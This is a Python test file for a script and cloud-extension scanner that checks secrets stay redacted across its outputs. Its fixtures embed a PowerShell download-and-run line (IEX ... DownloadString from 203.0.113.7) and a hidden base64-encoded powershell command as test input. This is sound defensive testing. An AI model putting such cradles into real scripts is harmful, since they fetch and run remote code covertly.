"""No secret of the corpus leaves the process: not in redacted text, not in a quote cut anywhere
around it, not in `inspector scan` output (JSON or report), not in an HTTP verdict or the stored request.

A secret counts as shown when any six characters of it appear that the inputs hold nowhere
but inside secrets ("github" of github_pat_... is also in github.com).
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from inspector import redact
from inspector.redact import redact_quote, redact_text
from tests.hostile.secret_shapes import LOOK_ALIKES, SECRET_CASES, SecretCase
from tests.timing import GIVE_UP_S

BIN = Path(sys.executable).parent / "inspector"
PIECE = 6


def shown_pieces(output: str, case: SecretCase) -> list[str]:
    pieces = {case.secret[i:i + PIECE] for i in range(len(case.secret) - PIECE + 1)}
    return sorted(p for p in pieces if p in output and p not in _PUBLIC_TEXT)


def by_name(case: SecretCase) -> str:
    return case.name


@pytest.mark.parametrize("case", SECRET_CASES, ids=by_name)
def test_redacted_text_shows_no_part_of_the_secret(case: SecretCase):
    assert case.secret in case.text
    assert shown_pieces(redact_text(case.text), case) == []


@pytest.mark.parametrize("case", SECRET_CASES, ids=by_name)
def test_a_quote_cut_at_any_offset_shows_no_part_of_the_secret(case: SecretCase):
    for start in range(len(case.text)):
        for width in (12, 40):
            quote = case.text[start:start + width]
            assert shown_pieces(redact_quote(case.text, start, quote), case) == [], (start, quote)


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_look_alikes_stay_readable(text: str):
    assert redact_text(text) == text


@pytest.mark.parametrize("case", SECRET_CASES, ids=by_name)
def test_every_shape_that_matches_a_case_was_let_through_by_its_hints(case: SecretCase):
    low = case.text.lower()
    for shape in redact._SHAPES:
        if shape.pattern.search(case.text):
            assert any(hint in low for hint in shape.hints), shape.name


# --------------------------------------------------------------------------- through the command line


def script_around(case: SecretCase) -> str:
    """The case as a line of its own, inside a download-and-run line, and hidden in an encoded command."""
    encoded = base64.b64encode(case.text.encode("utf-16-le")).decode()
    return (f"{case.text}\n"
            f"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1'); {case.text}\n"
            f"powershell -nop -w hidden -enc {encoded}\n")


def extension_with_protected_secrets() -> dict:
    return {"properties": {
        "publisher": "Microsoft.Compute", "type": "CustomScriptExtension", "typeHandlerVersion": "1.10",
        "protectedSettings": {
            "commandToExecute": " & ".join(c.text for c in SECRET_CASES if "\n" not in c.text)[:8000],
            "gitToken": "Gt3Xq8Rz1Wk6Lm9N", "workspaceKey": "Wk5Rz2Xq", "vendorThing": {"secretish": "Vt4Xq9Rz2Wk7"},
            "fileUris": ["https://acct.blob.core.windows.net/c/run.ps1?sv=2022&sig=Fs8Xq3Rz6Wk1Lm4N"],
        },
    }}


EXTENSION_SECRETS = (
    SecretCase("protected gitToken", "", "Gt3Xq8Rz1Wk6Lm9N"),
    SecretCase("protected short workspaceKey", "", "Wk5Rz2Xq"),
    SecretCase("protected unknown setting", "", "Vt4Xq9Rz2Wk7"),
    SecretCase("fileUris SAS", "", "Fs8Xq3Rz6Wk1Lm4N"),
)

# What the inputs show outside their secrets (a six-character run found here proves nothing).
_PUBLIC_TEXT = "\0".join(case.text.replace(case.secret, "\0") for case in SECRET_CASES)


def run_scan(*args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_")}
    env["INSPECTOR_FETCH"] = "false"
    return subprocess.run([str(BIN), "scan", *args], capture_output=True, text=True, env=env, timeout=GIVE_UP_S)


@pytest.fixture(scope="module")
def corpus_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("secret-shapes")
    for index, case in enumerate(SECRET_CASES):
        (folder / f"case{index:03d}.ps1").write_text(script_around(case))
    (folder / "extension.json").write_text(json.dumps(extension_with_protected_secrets()))
    return folder


def test_scan_json_shows_no_secret_in_any_verdict(corpus_dir: Path):
    result = run_scan("--json", str(corpus_dir))
    assert result.returncode == 1, result.stderr
    rows = {Path(row["input"]).name: json.dumps(row) for row in map(json.loads, result.stdout.splitlines())}
    assert len(rows) == len(SECRET_CASES) + 1
    snippets = 0
    for index, case in enumerate(SECRET_CASES):
        row = rows[f"case{index:03d}.ps1"]
        snippets += row.count('"snippet": "')
        assert shown_pieces(row, case) == [], case.name
    for case in (*SECRET_CASES, *EXTENSION_SECRETS):
        assert shown_pieces(rows["extension.json"], case) == [], case.name
    assert snippets > len(SECRET_CASES)  # the verdicts do quote the lines around the secrets


def test_scan_report_shows_no_secret(corpus_dir: Path):
    result = run_scan(str(corpus_dir))
    assert result.returncode == 1, result.stderr
    assert result.stdout.count("| ") > len(SECRET_CASES)  # the report quotes the matched text
    for case in (*SECRET_CASES, *EXTENSION_SECRETS):
        assert shown_pieces(result.stdout, case) == [], case.name


# --------------------------------------------------------------------------- through the HTTP service


async def test_an_http_verdict_and_the_stored_request_show_no_secret(tmp_path: Path):
    from tests.api.server import start_service

    script = "\n".join(script_around(case) for case in SECRET_CASES[:20])
    async with start_service(tmp_path) as service:
        for body, cases in (({"kind": "extension", "resource": extension_with_protected_secrets()},
                             (*SECRET_CASES, *EXTENSION_SECRETS)),
                            ({"kind": "script", "content": script}, SECRET_CASES[:20])):
            status, _, verdict = await service.call("POST", "/v1/inspections", key="detector", json_body=body)
            assert status == 200, verdict
            stored = await service.store.inspections.stored_request(verdict["id"])
            shown = json.dumps(verdict) + json.dumps(stored)
            for case in cases:
                assert shown_pieces(shown, case) == [], case.name
